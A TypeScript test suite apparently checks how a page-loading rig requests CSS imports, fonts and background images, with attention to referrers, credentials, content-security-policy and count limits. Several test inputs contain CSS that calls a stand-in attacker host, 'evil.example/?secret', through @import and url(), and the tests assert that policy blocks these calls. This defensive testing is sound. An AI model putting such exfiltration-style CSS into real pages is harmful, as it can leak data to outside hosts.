import { describe, expect, it } from "vitest";
import { settle } from "../../../../shared/testing/turns.ts";
import { type Circumstances, load } from "../testing/push-rig.ts";

const SITE = "https://site.example";
const CSS = { type: "text/css; charset=utf-8" };
const FACES = `@font-face{font-family:Used;src:url(../f/used.woff2)}@font-face{font-family:Other;src:url(/other.woff2)}`;
const LINK = "<link rel=stylesheet href=/css/a.css>";

/** What is asked for when all that a document leads to has come, but what its markup names. */
async function askedFor(html: string, texts: Record<string, readonly string[]>, more: Circumstances = CSS) {
  const rig = load({ texts: (url) => texts[url.replace(SITE, "")] ?? [], ...more });
  rig.write(html);
  const named = rig.asked.length;
  rig.end();
  await settle();
  return rig.asked.slice(named).map(({ head }) => head);
}

const urls = async (...[html, texts, more]: Parameters<typeof askedFor>) =>
  (await askedFor(html, texts, more)).map(({ url }) => url.replace(SITE, ""));

describe("what a style sheet imports", () => {
  it("is asked for as the style sheet would, as soon as it stands there", async () => {
    const texts = {
      "/css/a.css": ['@import "b.cs', 's";@import "c.css";p{}@import "d.css";'],
      "/css/c.css": ["@import url(/e.css);"],
    };
    expect(await askedFor(LINK, texts)).toMatchObject([
      { url: `${SITE}/css/b.css`, destination: "style", mode: "no-cors", referrer: `${SITE}/css/a.css` },
      { url: `${SITE}/css/c.css`, credentials: "include", origin: SITE },
      { url: `${SITE}/e.css`, referrer: `${SITE}/css/c.css` },
    ]);
  });

  it("obeys the page's policies, and says nothing of another origin's importer", async () => {
    const texts = { "https://cdn.example/a.css": ['@import "b.css"; @import "https://evil.example/?secret";'] };
    const headers = [["content-security-policy", "style-src https://cdn.example"]] as const;
    const heads = await askedFor("<link rel=stylesheet href=https://cdn.example/a.css>", texts, { ...CSS, headers });
    expect(heads).toMatchObject([{ url: "https://cdn.example/b.css", referrer: "" }]);
    expect(heads).toHaveLength(1);
  });

  it("does not have the nonce of the style sheet that imports it", async () => {
    const html = "<link rel=stylesheet nonce=n href=https://cdn.example/a.css>";
    const headers = [["content-security-policy", "style-src 'nonce-n'"]] as const;
    const texts = { "https://cdn.example/a.css": ['@import "https://evil.example/?secret";'] };
    expect(await askedFor(html, texts, { ...CSS, headers })).toEqual([]);
  });

  it("is nothing of another type", async () => {
    expect(await askedFor(LINK, { "/css/a.css": ['@import "b.css";'] }, { type: "text/plain" })).toEqual([]);
  });

  it("is bounded", async () => {
    const chain = (url: string) => [`@import "${Number(/\d+/.exec(url)?.[0]) + 1}.css";`];
    const rig = load({ ...CSS, texts: chain, request: { pushes: 20 } });
    rig.write("<link rel=stylesheet href=/1.css>");
    await settle(200);
    expect(rig.asked).toHaveLength(20);
  });
});

describe("fonts and backgrounds of a page's style sheets", () => {
  it("are asked for as the browser would, those only that the page shows", async () => {
    const texts = { "/css/a.css": [FACES, "h1{font-family:Used;background:url(b.png)}.no{background:url(c.png)}"] };
    const heads = await askedFor(`${LINK}<h1>Title</h1>`, texts);
    expect(heads).toMatchObject([
      {
        url: `${SITE}/f/used.woff2`,
        destination: "font",
        mode: "cors",
        credentials: "same-origin",
        referrer: `${SITE}/css/a.css`,
        origin: SITE,
        headers: [["accept", "*/*"]],
      },
      { url: `${SITE}/css/b.png`, destination: "image", mode: "no-cors", credentials: "include" },
    ]);
    expect(heads).toHaveLength(2);
  });

  it("are left out where the platform gives no time for it, but not imports", async () => {
    const texts = { "/css/a.css": [`@import "b.css";${FACES}`, "h1{font-family:Used;background:url(b.png)}"] };
    const bounds = { matchesStyles: false };
    expect(await urls(`${LINK}<h1>Title</h1>`, texts, { ...CSS, bounds })).toEqual(["/css/b.css"]);
  });

  it("are known when all style sheets are: the last wins, and one that is imported gives way", async () => {
    const html = `${LINK}<link rel=stylesheet href=/css/b.css><p>Text`;
    const texts = {
      "/css/a.css": ['@import "c.css";', FACES, "p{font-family:Other}"],
      "/css/b.css": ["p{font-family:Used}"],
      "/css/c.css": ["p{font-family:Other!important;background:url(x.png)}"],
    };
    expect(await urls(html, texts)).toEqual(["/css/c.css", "/other.woff2", "/css/x.png"]);
    expect(await urls(html, { ...texts, "/css/c.css": ["p{font-family:Other}"] })).toEqual([
      "/css/c.css",
      "/f/used.woff2",
    ]);
  });

  it("do not wait for what does not come", async () => {
    const rig = load({
      ...CSS,
      texts: (url) => (url.endsWith("a.css") ? [FACES, "p{font-family:Used}"] : []),
      failing: (url) => url.endsWith("b.css"),
    });
    rig.write(`${LINK}<link rel=stylesheet href=/b.css><p>Text`);
    rig.end();
    await settle();
    expect(rig.asked.map(({ head }) => head.url.replace(SITE, ""))).toEqual(["/css/a.css", "/b.css", "/f/used.woff2"]);
  });

  it("are those of the document's own styles, too, from its base", async () => {
    const html = `<base href=/base/><style>@import "i.css";@font-face{font-family:A;src:url(a.woff)}p{font:1em A}</style><p>Text`;
    const heads = await askedFor(html, {});
    expect(heads).toMatchObject([{ url: `${SITE}/base/a.woff`, referrer: `${SITE}/dir/page?q` }]);
    expect(await urls(`${html}<style media=print>p{background:url(x)}</style>`, {})).toEqual(["/base/a.woff"]);
    const headers = [["content-security-policy", "style-src 'self'"]] as const;
    expect(await urls(html, {}, { ...CSS, headers })).toEqual([]);
    const nonce = [["content-security-policy", "style-src-elem 'nonce-n'"]] as const;
    expect(await urls(html.replace("<style", "<style nonce=n"), {}, { ...CSS, headers: nonce })).toEqual([
      "/base/a.woff",
    ]);
  });

  it("obey the page's policies", async () => {
    const texts = { "/css/a.css": [FACES, "p{font-family:Used;background:url(//evil.example/?secret)}"] };
    const headers = [["content-security-policy", "font-src 'none'; img-src 'self'"]] as const;
    expect(await urls(`${LINK}<p>Text`, texts, { ...CSS, headers })).toEqual([]);
  });

  it("are not pushed once the document is given up, nor what the phone has", async () => {
    const texts = (): string[] => [FACES, "p{font-family:Used;background:url(/kept)}"];
    const rig = load({ ...CSS, texts });
    rig.write(`${LINK}<p>Text`);
    rig.abort.abort();
    await settle();
    expect(rig.asked).toHaveLength(1);
    expect(await urls(`${LINK}<p>Text`, { "/css/a.css": texts() })).toEqual(["/f/used.woff2"]);
  });

  it("are so many at most", async () => {
    const faces = Array.from({ length: 40 }, (_, index) => `@font-face{font-family:F${index};src:url(f${index})}`);
    const rules = Array.from(
      { length: 40 },
      (_, index) => `.c${index}{font-family:F${index};background:url(i${index})}`,
    );
    const html = Array.from({ length: 40 }, (_, index) => `<p class=c${index}>Text</p>`).join("");
    expect(await urls(`${LINK}${html}`, { "/css/a.css": [...faces, ...rules] })).toHaveLength(32);
  });
});
